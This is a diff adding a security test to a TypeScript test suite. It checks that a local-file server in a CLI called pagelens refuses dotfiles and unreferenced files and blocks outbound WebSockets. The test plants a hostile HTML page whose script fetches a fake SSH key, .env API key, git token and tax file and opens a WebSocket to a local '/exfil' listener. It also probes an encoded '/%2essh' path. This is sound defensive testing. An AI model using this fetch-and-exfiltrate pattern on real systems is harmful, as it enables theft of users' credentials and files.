@@ -5,7 +5,9 @@
 import assert from 'node:assert/strict';
 import { spawn, type ChildProcess } from 'node:child_process';
 import { createServer, request, type IncomingHttpHeaders, type Server } from 'node:http';
+import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { createServer as createNetServer } from 'node:net';
+import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { after, describe, test } from 'node:test';
@@ -14,6 +16,7 @@ import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/
 import { OpenAIPlanner } from '../src/agent/openaiPlanner.js';
 import type { Planner } from '../src/agent/planner.js';
 import { startServer, type RunningServer } from '../src/server/serve.js';
+import { openPage } from '../src/session/open.js';
 
 const BIN = join(dirname(fileURLToPath(import.meta.url)), '../../bin/pagelens.js');
 
@@ -310,3 +313,69 @@ describe('pagelens serve', () => {
     }
   });
 });
+
+// ---- the CLI's local-file server ----
+
+describe('pagelens snapshot ~/page.html (the local-file server)', () => {
+  test('serves the page and what it references, never the folder\'s dotfiles or unreferenced files; no WebSocket out', async () => {
+    const home = await mkdtemp(join(tmpdir(), 'pagelens-home-'));
+    const attacker = await listenRecording();
+    try {
+      await mkdir(join(home, '.ssh'));
+      await mkdir(join(home, '.git'));
+      await mkdir(join(home, 'Documents'));
+      await writeFile(join(home, '.ssh/id_rsa'), 'PRIVATE-KEY-abc123');
+      await writeFile(join(home, '.env'), 'OPENAI_API_KEY=sk-env-secret');
+      await writeFile(join(home, '.git/config'), '[remote] url = https://token@host/repo');
+      await writeFile(join(home, 'Documents/taxes.txt'), 'TAXES-2025');
+      await writeFile(join(home, 'style.css'), 'body { background: url("bg.png") }');
+      await writeFile(join(home, 'bg.png'), 'not really a png');
+      await writeFile(join(home, 'page.html'), `<!doctype html><title>loading</title><link rel="stylesheet" href="style.css"><ul id="out"></ul>
+<script>
+(async () => {
+  const out = document.getElementById('out');
+  for (const p of ['/.ssh/id_rsa', '/.env', '/.git/config', '/Documents/taxes.txt', '/style.css', '/bg.png']) {
+    const r = await fetch(p).then(async (r) => r.status + ' ' + (await r.text()).slice(0, 20), () => 'failed');
+    out.insertAdjacentHTML('beforeend', '<li><button>' + p + ' ' + r + '</button></li>');
+  }
+  const ws = await new Promise((resolve) => {
+    const s = new WebSocket('ws://127.0.0.1:${attacker.port}/exfil');
+    s.onopen = () => resolve('ws open'); s.onerror = () => resolve('ws refused');
+  });
+  out.insertAdjacentHTML('beforeend', '<li><button>' + ws + '</button></li>');
+  document.title = 'done';
+})();
+</script>`);
+      const open = await openPage(join(home, 'page.html'));
+      try {
+        await open.page.waitForFunction(() => document.title === 'done', undefined, { timeout: 15_000 });
+        const lines = await open.page.locator('button').allTextContents();
+        const statusOf = (p: string) => lines.find((l) => l.startsWith(p + ' '))?.slice(p.length + 1);
+        for (const p of ['/.ssh/id_rsa', '/.env', '/.git/config', '/Documents/taxes.txt']) assert.match(statusOf(p) ?? '', /^404 /, `${p}: ${statusOf(p)}`);
+        assert.match(statusOf('/style.css') ?? '', /^200 body/);
+        assert.match(statusOf('/bg.png') ?? '', /^200 not really/, 'what the page\'s style references is served');
+        assert.ok(lines.includes('ws refused'), lines.join(' | '));
+        // Asked directly, as any local process or a rebinding page would.
+        const port = Number(new URL(open.url).port);
+        for (const p of ['/.ssh/id_rsa', '/.env', '/.git/config', '/Documents/taxes.txt', '/%2essh/id_rsa']) {
+          const r = await raw(port, 'GET', p, { host: `127.0.0.1:${port}` });
+          assert.equal(r.status, 404, `${p}: ${r.status} ${r.body}`);
+        }
+      } finally {
+        await open.close();
+      }
+      assert.deepEqual(attacker.seen, [], 'the WebSocket never reached the other loopback server');
+    } finally {
+      await rm(home, { recursive: true, force: true });
+      await new Promise((r) => attacker.server.close(r));
+    }
+  });
+});
+
+async function listenRecording(): Promise<{ server: Server; port: number; seen: string[] }> {
+  const seen: string[] = [];
+  const server = createServer((req, res) => { seen.push(`${req.method} ${req.url}`); res.end(); });
+  server.on('upgrade', (req, socket) => { seen.push(`UPGRADE ${req.url}`); socket.destroy(); });
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  return { server, port: (server.address() as { port: number }).port, seen };
+}
